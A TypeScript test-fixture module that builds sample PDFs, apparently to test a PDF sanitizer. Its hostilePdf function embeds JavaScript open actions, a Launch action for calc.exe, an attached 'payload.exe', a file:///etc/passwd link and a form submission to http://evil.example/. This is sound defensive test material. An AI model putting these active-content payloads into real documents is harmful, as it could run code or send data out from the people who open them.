import {
  PDFDocument,
  PDFObjectParser,
  StandardFonts,
  type EncryptionAlgorithm,
  type PDFDict,
} from "@cantoo/pdf-lib";
import { packed } from "./packed.ts";

/** Creates a PDF with one page for each text. */
export async function pdfWith(...texts: string[]): Promise<Uint8Array> {
  return (await documentWith(...texts)).save();
}

/** Creates the same as a document that can still be changed. */
export async function documentWith(...texts: string[]): Promise<PDFDocument> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  for (const text of texts) {
    document.addPage().drawText(text, { x: 72, y: 700, size: 14, font });
  }
  return document;
}

/**
 * Creates a form in which a name was typed and a box was ticked; every field has its drawing, as most programs store
 * it.
 */
export async function filledForm(name: string): Promise<PDFDocument> {
  const document = await documentWith("Transcript request");
  const page = document.getPage(0);
  const form = document.getForm();
  const field = form.createTextField("student.name");
  field.setText(name);
  field.addToPage(page, { x: 72, y: 600, width: 200, height: 24 });
  const box = form.createCheckBox("student.agrees");
  box.addToPage(page, { x: 72, y: 560, width: 14, height: 14 });
  box.check();
  form.updateFieldAppearances();
  return document;
}

/**
 * Creates a PDF that tries everything a PDF can do by itself, and has honest links to `https:` and `mailto:` addresses.
 */
export async function hostilePdf(): Promise<Uint8Array> {
  const document = await filledForm("Amy Adams");
  const { context, catalog } = document;
  const streamOf = (content: string) =>
    String(context.register(context.stream(content)));
  document.setAuthor("Secret Author");
  await document.attach(Buffer.from("attached"), "payload.exe");
  document.addJavaScript("names", "app.alert('names')");
  const script = "<< /S /JavaScript /JS (app.alert('open')) >>";
  const about = streamOf("<x:xmpmeta>Secret</x:xmpmeta>");
  const page = document.getPage(0).node;
  for (const [dict, entries] of [
    [catalog, `/OpenAction ${script} /AA << /WC ${script} >>`],
    [catalog, "/URI << /Base (http://base/) >>"],
    [catalog.getAcroForm()?.dict, `/XFA ${streamOf("<xdp:xdp/>")}`],
    [page, `/AA << /O ${script} >> /Metadata ${about}`],
  ] as const) {
    for (const [key, value] of dictOf(document, entries).entries()) {
      dict?.set(key, value);
    }
  }
  for (const entries of [
    "/A << /S /URI /URI (https://college.example/) /Next << /S /Named /N /NextPage >> >>",
    "/A << /S /URI /URI (mailto:office@college.example) >>",
    "/A << /S /URI /URI (javascript:alert\\(1\\)) >>",
    "/A << /S /URI /URI (file:///etc/passwd) >>",
    "/A << /S /Launch /F (calc.exe) >>",
    "/A << /S /GoToR /F (other.pdf) >>",
    "/A << /S /SubmitForm /F (http://evil.example/) >>",
    "/A << /S /Named /N /Print >>",
    `/A << /S /GoTo /D (x) /Next ${script} >>`,
    "/Subtype /Sound /Sound << >>",
    `/A ${script} /PA << /S /URI /URI (http://previous.example/) >>`,
    "/Subtype /RichMedia /RichMediaContent << /Assets << /Names [] >> >>",
    `/Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) /EF << /F ${about} >> >>`,
    "/Subtype /Screen /A << /S /Rendition /JS (app.alert\\(2\\)) >>",
  ]) {
    annotate(document, entries);
  }
  // Otherwise the library would redraw the form and remove the XFA.
  return document.save({ updateFieldAppearances: false });
}

/** Returns a dictionary of these entries, as a PDF writes them. */
function dictOf({ context }: PDFDocument, entries: string) {
  const written = Buffer.from(`<< ${entries} >>`);
  return PDFObjectParser.forBytes(written, context).parseObject() as PDFDict;
}

/** Adds an annotation to the first page: a link, unless its entries, as a PDF writes them, say otherwise. */
function annotate(document: PDFDocument, entries: string) {
  const annotation = dictOf(
    document,
    `/Type /Annot /Subtype /Link /Rect [72 400 200 420] ${entries}`,
  );
  document.getPage(0).node.addAnnot(document.context.register(annotation));
}

/** Creates a PDF that needs the password `user` to be read, or, without it, only forbids some actions. */
export async function encryptedPdf(
  content: string,
  passwords: { readonly user?: string; readonly owner: string },
  algorithm: EncryptionAlgorithm = "AES-256",
): Promise<Uint8Array> {
  const document = await documentWith(content);
  document.encrypt({
    ownerPassword: passwords.owner,
    ...(passwords.user === undefined ? {} : { userPassword: passwords.user }),
    permissions: { copying: false },
    algorithm,
    allowWeakCryptography: true,
  });
  return document.save();
}

/** Creates a PDF of one page with this text and one more feature. */
export async function pdfThat(
  content: string,
  change: (
    document: PDFDocument,
    annotate: (entries: string) => void,
  ) => Promise<void> | void,
): Promise<Uint8Array> {
  const document = await documentWith(content);
  await change(document, (entries) => annotate(document, entries));
  return document.save({ updateFieldAppearances: false });
}

/**
 * Creates a handwritten PDF: objects 1, 2, 3 ... as given, then a classic cross-reference table. Object 1 is the
 * catalog.
 */
export function rawPdf(...objects: (string | Uint8Array)[]): Uint8Array {
  const header = Buffer.from("%PDF-1.7\n");
  const written = objects.map((object, at) =>
    Buffer.concat([
      Buffer.from(`${at + 1} 0 obj\n`),
      Buffer.from(object),
      Buffer.from("\nendobj\n"),
    ]),
  );
  let start = header.length;
  const entries = written.map(({ length }) => {
    start += length;
    return `${String(start - length).padStart(10, "0")} 00000 n \n`;
  });
  const size = objects.length + 1;
  const end = `xref\n0 ${size}\n0000000000 65535 f \n${entries.join("")}trailer << /Size ${size} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.concat([header, ...written, Buffer.from(end)]);
}

/** Returns a PDF of which parts are written differently. */
export function rewritten(
  pdf: Uint8Array,
  ...changes: (readonly [part: RegExp | string, otherwise: string])[]
): Uint8Array {
  const text = changes.reduce(
    (written, [part, otherwise]) => written.replace(part, otherwise),
    Buffer.from(pdf).toString("latin1"),
  );
  return Buffer.from(text, "latin1");
}

/** Returns a stream object for `rawPdf`, with blanks at its end, compressed once, whatever filter it declares. */
export function packedStream(
  entries: string,
  content: Uint8Array,
  filter = "/FlateDecode",
  blanks = 0,
): Uint8Array {
  return streamObject(
    `${entries} /Filter ${filter}`,
    packed(content, blanks, 0x20),
  );
}

/** Returns a stream object for `rawPdf` of these bytes as they are. */
export function streamObject(entries: string, bytes: Uint8Array): Uint8Array {
  return Buffer.concat([
    Buffer.from(`<< ${entries} /Length ${bytes.length} >>\nstream\n`),
    bytes,
    Buffer.from("\nendstream"),
  ]);
}

/** Returns a stream object for `rawPdf` as it is. */
export function plainStream(content: string, entries = ""): string {
  return `<< ${entries} /Length ${content.length} >>\nstream\n${content}\nendstream`;
}

/** Returns a page on Letter paper for `rawPdf`, whose tree is object 2. */
export function pageObject(entries = ""): string {
  return `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${entries} >>`;
}

/** Entries of a page that shows a square, without an object of its own. */
export const SQUARE =
  "/Annots [<< /Type /Annot /Subtype /Square /Rect [9 9 99 99] /C [0] /F 4 >>]";

/** Catalog, page tree and one page that shows a square, for `rawPdf`. */
export const onePage = [
  "<< /Type /Catalog /Pages 2 0 R >>",
  "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
  pageObject(SQUARE),
] as const;

/** Creates a handwritten PDF of one page with these entries, object 3, and more objects. */
export function rawPageWith(
  entries: string,
  ...objects: (string | Uint8Array)[]
): Uint8Array {
  return rawPdf(onePage[0], onePage[1], pageObject(entries), ...objects);
}

/** Returns catalog, page tree and one page with this text for `rawPdf`. */
export function rawPage(text: string): string[] {
  return [
    onePage[0],
    onePage[1],
    pageObject("/Contents 4 0 R /Resources << /Font << /F 5 0 R >> >>"),
    textStream(text),
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ];
}

/** Returns the content of a page for `rawPdf`. */
export function textStream(text: string): string {
  return plainStream(`BT /F 14 Tf 72 700 Td (${text}) Tj ET`);
}

/** Creates two pages, the first with a link to the second and an external one; both tagged as parts of the document. */
export async function linkedPdf(): Promise<Uint8Array> {
  const document = await documentWith("Contents", "Chapter");
  const [first = "", second = ""] = document
    .getPages()
    .map(({ ref }) => String(ref));
  for (const link of [
    `/Dest [${second} /Fit]`,
    `/A << /S /GoTo /D [${second} /Fit] >>`,
    "/A << /S /URI /URI (https://college.example/) >> /Rect [72 695 132 715]",
  ]) {
    annotate(document, `${link} /P ${first} /StructParent 0`);
  }
  return document.save();
}

/** Returns the texts of this many pages. */
export function pageTexts(count: number) {
  return Array.from({ length: count }, (_, at) => `Page ${at}`);
}
